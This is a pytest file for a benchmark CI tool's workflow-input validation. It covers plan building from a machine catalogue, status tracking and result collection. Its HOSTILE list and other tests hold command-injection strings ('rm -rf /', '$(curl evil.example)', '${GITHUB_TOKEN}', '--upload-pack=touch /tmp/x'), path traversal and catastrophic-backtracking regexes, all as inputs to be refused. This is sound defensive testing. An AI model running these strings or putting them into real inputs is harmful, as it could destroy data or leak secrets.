"""jaxci inputs: hostile workflow inputs are refused before any label or command is built; the plan takes its
families, labels, spot use and timeouts from the catalogue; suite status and collection report what happened."""

import json
import re
import subprocess
import sys

import pytest

from jaxci.catalogue import catalogue_defaults, load_catalogue
from jaxci.ci.jobcost import timeout_minutes
from jaxci.ci.workflow_inputs import (
    InputError,
    collect,
    family_outcome,
    plan,
    status_end,
    status_finish,
    status_init,
    status_start,
    suite_regex,
    suites,
    upgrade_plan,
    validate_commits,
    validate_families,
    validate_filter,
)

CATALOGUE = load_catalogue()
DEFAULTS = catalogue_defaults()
SHA = "0123456789abcdef0123456789abcdef01234567"

# (input, hostile value): every one must be refused, with the input named in the message.
HOSTILE = [
    ("families", "g4dn.2xlarge;rm -rf /"),
    ("families", "$(curl evil.example)"),
    ("families", "`id`"),
    ("families", "g4dn.2xlarge\nc7i.2xlarge"),
    ("families", "p5.48xlarge"),
    ("families", "g4dn.2xlarge/spot=true"),
    ("families", "g4dn.2xlarge/image=attacker-ami"),
    ("bench", "$(id)"),
    ("bench", "${GITHUB_TOKEN}"),
    ("bench", "dense; curl x"),
    ("bench", "dense`id`"),
    ("bench", "dense\nloops"),
    ("bench", "dense loops"),
    ("bench", "--help"),
    ("bench", "-x"),
    ("bench", "dense&&id"),
    ("bench", "dense>out"),
    ("bench", "dense'"),
    ("bench", 'dense"'),
    ("bench", "dense(("),
    ("bench", "a" * 201),
    ("commits", "$(id)"),
    ("commits", "main;id"),
    ("commits", "`id`"),
    ("commits", "main\nid"),
    ("commits", "--upload-pack=touch /tmp/x"),
    ("commits", "-q"),
    ("commits", "main..evil"),
    ("commits", "HEAD@{1}"),
    ("commits", "refs/heads/x.lock"),
    ("commits", " ".join(["HEAD"] * 11)),
    ("scale", "full; id"),
    ("scale", "huge"),
]


def _plan(**kw):
    args = dict(families="", scale="full", bench="", commits="", run_id="42")
    args.update(kw)
    return plan(args["families"], args["scale"], args["bench"], args["commits"], args["run_id"],
                catalogue=CATALOGUE, defaults=DEFAULTS, suite_names=["dense", "loops"])


@pytest.mark.parametrize("name,value", HOSTILE, ids=[f"{n}:{v[:20]!r}" for n, v in HOSTILE])
def test_hostile_input_is_refused(name, value):
    with pytest.raises(InputError, match=f"'{name}'"):
        _plan(**{name: value})


@pytest.mark.parametrize("run_id", ["1; id", "$(id)", "12\n3", ""])
def test_hostile_run_id_is_refused(run_id):
    with pytest.raises(InputError, match="run id"):
        _plan(run_id=run_id)


def test_cli_refuses_and_writes_no_output(tmp_path):
    out = tmp_path / "github_output"
    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "plan", "--families=$(id)", "--run-id=1",
                           f"--github-output={out}"], capture_output=True, text=True)
    assert proc.returncode == 2
    assert "refused" in proc.stderr and "'families'" in proc.stderr
    assert not out.exists()


def test_cli_writes_single_line_outputs(tmp_path):
    out = tmp_path / "github_output"
    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "plan", "--families=g4dn.2xlarge,ubuntu-latest",
                           "--bench=^dispatch.TinyOp", "--commits=HEAD,main", "--scale=ci", "--run-id=77",
                           f"--github-output={out}"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    lines = out.read_text().splitlines()
    outputs = dict(line.split("=", 1) for line in lines)
    assert set(outputs) == {"matrix", "scale", "publish", "commits", "suite_filters"}
    matrix = json.loads(outputs["matrix"])
    assert [e["family"] for e in matrix["include"]] == ["g4dn.2xlarge", "ubuntu-latest"]
    assert outputs["commits"] == "HEAD main" and outputs["publish"] == "false"


def test_plain_inputs_pass():
    assert validate_families("g4dn.2xlarge, c7i.2xlarge", CATALOGUE) == ["g4dn.2xlarge", "c7i.2xlarge"]
    assert validate_filter("^loops.(Scan|ForiAccumulate)") == "^loops.(Scan|ForiAccumulate)"
    assert validate_filter("") is None
    assert validate_commits("") == ["HEAD"]
    assert validate_commits("3363320, v0.2.0 main~3 release/2026-11") == ["3363320", "v0.2.0", "main~3",
                                                                           "release/2026-11"]


def test_default_families_are_the_bench_families():
    p = _plan()
    assert p.families == [n for n, m in CATALOGUE.items() if m.bench]
    assert p.families  # the catalogue must have at least one bench family


def test_labels_timeouts_and_spot_come_from_the_catalogue():
    for scale in ("full", "ci"):
        p = _plan(scale=scale, commits="HEAD main")
        for entry in p.matrix["include"]:
            m = CATALOGUE[entry["family"]]
            assert entry["timeout_minutes"] == timeout_minutes(m, DEFAULTS, runs=2)
            assert entry["backend"] == m.backend and entry["gpu"] == m.has_gpu
            if scale == "full":  # published: on-demand always
                assert entry["spot"] is False
            else:  # exploratory: spot only where the catalogue allows it
                assert entry["spot"] is (m.spot == "exploratory")
            if m.runner == "github":
                assert entry["runs_on"] == m.image
            else:
                assert entry["runs_on"] == (f"runs-on=42/family={m.name}/image={m.image}/"
                                            f"spot={'true' if entry['spot'] else 'false'}")


def test_publish_only_at_full_scale():
    assert _plan(scale="full").publish is True
    assert _plan(scale="ci").publish is False
    assert _plan(scale="").scale == "full"  # a scheduled run has no inputs


def test_upgrade_plan_is_on_demand_and_timed_for_two_runs():
    out = upgrade_plan(SHA, SHA[::-1], "9", catalogue=CATALOGUE, defaults=DEFAULTS)
    matrix = json.loads(out["matrix"])
    gpus = [CATALOGUE[e["family"]].has_gpu for e in matrix["include"]]
    assert sorted(gpus) == [False, True]
    for e in matrix["include"]:
        assert e["spot"] is False and e["runs_on"].endswith(("spot=false", "ubuntu-latest"))
        assert e["timeout_minutes"] == timeout_minutes(CATALOGUE[e["family"]], DEFAULTS, runs=2)
    for bad in ("main", SHA[:12], SHA + "\n", "$(id)"):
        with pytest.raises(InputError):
            upgrade_plan(bad, SHA, "9", catalogue=CATALOGUE, defaults=DEFAULTS)


# asv selects a benchmark when re.search(regex, "module.Class.method(params)") matches.
NAMES = ["dispatch.TinyOp.time_warm('float32', 'cpu')", "dispatch.Transfer.time_transfer('h2d', 1, 'cpu')",
         "loops.Scan.time_warm(1000, 1, 'float32', 'cpu')", "dense.Dense.time_warm('matmul', 64, 'float32', 'cpu')"]


@pytest.mark.parametrize("bench,suite,expected", [
    (None, "dispatch", NAMES[:2]),
    ("^dispatch.TinyOp", "dispatch", NAMES[:1]),
    ("^dispatch.TinyOp", "loops", []),
    ("TinyOp|Scan", "loops", NAMES[2:3]),
    ("TinyOp|Scan", "dispatch", NAMES[:1]),
    ("float32', 'cpu'[)]$", "dense", NAMES[3:]),
])
def test_suite_regex_is_suite_and_filter(bench, suite, expected):
    regex = suite_regex(suite, bench)
    assert [n for n in NAMES if re.search(regex, n)] == expected


def test_suites_are_the_benchmark_modules():
    names = suites()
    assert {"dense", "dispatch", "loops"} <= set(names) and "common" not in names


def test_status_records_the_interrupted_suite(tmp_path):
    path = tmp_path / "s.json"
    status_init(path, "g4dn.2xlarge", spot=True)
    status_start(path, "dense")
    status_end(path, "dense", 0)
    status_start(path, "loops")  # the job is cancelled here (timeout, or the user)
    status = status_finish(path)
    assert status["suites"] == {"dense": "ok", "loops": status["suites"]["loops"]}
    assert status["suites"]["loops"].startswith("interrupted")
    assert family_outcome({"spot": True}, status)[0] == "interrupted"


def test_status_distinguishes_failure_from_no_selection(tmp_path):
    path = tmp_path / "s.json"
    status_init(path, "c7i.2xlarge", spot=False)
    status_end(path, "dense", 1, log="· No benchmarks selected")
    status_end(path, "loops", 2)
    status_end(path, "dispatch", 1, log="Traceback ...")
    suites_ = status_finish(path)["suites"]
    assert suites_["dense"].startswith("not selected")
    assert suites_["loops"].startswith("completed")
    assert suites_["dispatch"].startswith("failed")
    assert family_outcome({"spot": False}, status_finish(path))[0] == "failed"


def test_lost_runner_is_a_spot_interruption_only_on_spot():
    assert family_outcome({"spot": True}, None)[0] == "spot interruption"
    assert family_outcome({"spot": False}, None)[0] == "runner lost"


def test_collect_merges_what_came_back_and_reports_the_rest(tmp_path):
    incoming, results = tmp_path / "incoming", tmp_path / "results"
    ok = incoming / "results-c7i.2xlarge"
    (ok / "results" / "c7i.2xlarge").mkdir(parents=True)
    (ok / "results" / "c7i.2xlarge" / "abc-virtualenv.json").write_text("{}")
    (ok / "results" / "c7i.2xlarge" / "machine.json").write_text("{}")
    (ok / "results" / "benchmarks.json").write_text('{"version": 2}')
    status_init(ok / "run-status" / "c7i.2xlarge.json", "c7i.2xlarge", spot=False)
    status_end(ok / "run-status" / "c7i.2xlarge.json", "dense", 0)
    status_finish(ok / "run-status" / "c7i.2xlarge.json")
    results.mkdir()
    matrix = {"include": [{"family": "c7i.2xlarge", "spot": False}, {"family": "g4dn.2xlarge", "spot": True}]}
    rows = collect(matrix, incoming, results, CATALOGUE)
    assert [(r["family"], r["outcome"], r["results_merged"]) for r in rows] == [
        ("c7i.2xlarge", "complete", True), ("g4dn.2xlarge", "spot interruption", False)]
    assert (results / "c7i.2xlarge" / "abc-virtualenv.json").is_file()
    assert (results / "benchmarks.json").is_file() and not (results / "g4dn.2xlarge").exists()


def test_collect_refuses_a_family_outside_the_catalogue(tmp_path):
    with pytest.raises(InputError):
        collect({"include": [{"family": "../../etc"}]}, tmp_path, tmp_path / "results", CATALOGUE)


def test_status_cli_fails_the_job_only_on_a_failed_suite(tmp_path):
    status, log = tmp_path / "s.json", tmp_path / "dense.log"
    jaxci = [sys.executable, "-m", "jaxci", "inputs", "status", str(status)]
    assert subprocess.run(jaxci + ["init", "--family=c7i.2xlarge", "--spot=false"]).returncode == 0
    log.write_text("No benchmarks selected")
    assert subprocess.run(jaxci + ["end", "--suite=dense", "--exit=1", f"--log={log}"]).returncode == 0
    assert subprocess.run(jaxci + ["end", "--suite=loops", "--exit=2"]).returncode == 0
    assert subprocess.run(jaxci + ["end", "--suite=dispatch", "--exit=1"]).returncode == 1
    assert subprocess.run(jaxci + ["start", "--suite=$(id)"], capture_output=True).returncode == 2
    assert subprocess.run(jaxci[:-1] + [str(tmp_path / "t.json"), "init", "--family=nope", "--spot=true"],
                          capture_output=True).returncode == 2


# ---- issue 17: filters that backtrack without bound; status files a cancel can break ------------------

@pytest.mark.parametrize("bench", ["(.|.)*z", "(a|ab)+c", "(a*)*b", ".*.*.*z", ".?" * 15 + "z", "([a-z]+)+x"])
def test_filters_that_backtrack_without_bound_are_refused(bench):
    with pytest.raises(InputError, match="'bench': .* can backtrack through"):
        validate_filter(bench)


@pytest.mark.parametrize("bench", ["^dispatch", "TinyOp|Matmul", "time_.*float64.*gpu", "(float32|float64)?x",
                                   "[ab]*c", "dense[.]Matmul[.]time_warm"])
def test_ordinary_filters_pass(bench):
    assert validate_filter(bench) == bench


def test_accepted_filters_match_a_long_name_quickly():
    """The bound is what keeps asv's matching short: the worst accepted shapes, wrapped as the plan wraps them,
    against a 200-character name that never matches, in a child process with a generous limit (a hang guard,
    not a timing assertion: the refused '(.|.)*z' takes hours there)."""
    worst = [".*.*z", ".?" * 14 + "z", "[a-z]+_x+", "(a|b)?(c|d)?(e|f)?.*z"]
    for bench in worst:
        assert validate_filter(bench) == bench
    code = ("import re, sys; from jaxci.ci.workflow_inputs import suite_regex\n"
            "for b in sys.argv[1:]: re.search(suite_regex('dense', b), 'dense.' + 'a' * 194)")
    subprocess.run([sys.executable, "-c", code, *worst], check=True, timeout=60)


def _status_cli(*args):
    return subprocess.run([sys.executable, "-m", "jaxci", "inputs", "status", *map(str, args)],
                          capture_output=True, text=True)


def test_status_end_needs_a_suite_and_an_exit(tmp_path):
    status = tmp_path / "s.json"
    assert _status_cli(status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
    for args, message in [((), "--suite is required"), (("--suite=dense",), "--exit is required"),
                          (("--suite=dense\nx", "--exit=0"), "is not a suite name")]:
        proc = _status_cli(status, "end", *args)
        assert proc.returncode == 2 and message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert json.loads(status.read_text())["suites"] == {}  # nothing recorded as "null"


@pytest.mark.parametrize("content", ["", "{", "[]", '{"family": "x"}', '{"family": "x", "suites": {"a": null}}'])
def test_a_broken_status_file_is_refused_by_status(tmp_path, content):
    status = tmp_path / "s.json"
    status.write_text(content)
    proc = _status_cli(status, "finish")
    assert proc.returncode == 2 and f"status file {status}" in proc.stderr and "Traceback" not in proc.stderr


def test_status_is_written_atomically(tmp_path, monkeypatch):
    """A write cut off half way (here: the JSON encoder raising) leaves the previous status intact."""
    import jaxci.ci.workflow_inputs as wi

    status = tmp_path / "s.json"
    status_init(status, "c7i.2xlarge", spot=False)
    before = status.read_text()

    def broken(*a, **k):
        raise KeyboardInterrupt  # what a cancelled job delivers

    monkeypatch.setattr(wi.json, "dumps", broken)
    with pytest.raises(KeyboardInterrupt):
        status_start(status, "dense")
    monkeypatch.undo()
    assert status.read_text() == before and [p.name for p in tmp_path.iterdir()] == ["s.json"]


def test_collect_reports_a_broken_status_and_still_collects_the_rest(tmp_path):
    incoming, results = tmp_path / "incoming", tmp_path / "results"
    bad = incoming / "results-c7i.2xlarge"
    (bad / "run-status").mkdir(parents=True)
    (bad / "run-status" / "c7i.2xlarge.json").write_text('{"family": "c7i.2xl')  # cut off by a cancel
    (bad / "results" / "c7i.2xlarge").mkdir(parents=True)
    (bad / "results" / "c7i.2xlarge" / "abc-virtualenv.json").write_text("{}")
    good = incoming / "results-g4dn.2xlarge" / "run-status" / "g4dn.2xlarge.json"
    status_init(good, "g4dn.2xlarge", spot=False)
    status_end(good, "dense", 0)
    results.mkdir()
    matrix = {"include": [{"family": "c7i.2xlarge", "spot": False}, {"family": "g4dn.2xlarge", "spot": False}]}
    rows = collect(matrix, incoming, results, CATALOGUE)
    assert [(r["family"], r["outcome"], r["results_merged"]) for r in rows] == [
        ("c7i.2xlarge", "status unreadable", True), ("g4dn.2xlarge", "complete", False)]
    assert "c7i.2xlarge.json: unreadable" in rows[0]["detail"]


@pytest.mark.parametrize("matrix", ["[]", "{}", '{"include": 3}', '{"include": [1]}', "null", '"x"'])
def test_collect_refuses_a_matrix_of_the_wrong_shape(tmp_path, matrix):
    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "collect", "--matrix", matrix, "--incoming",
                           str(tmp_path)], capture_output=True, text=True)
    assert proc.returncode == 2 and "--matrix: expected the plan's matrix" in proc.stderr, proc.stderr
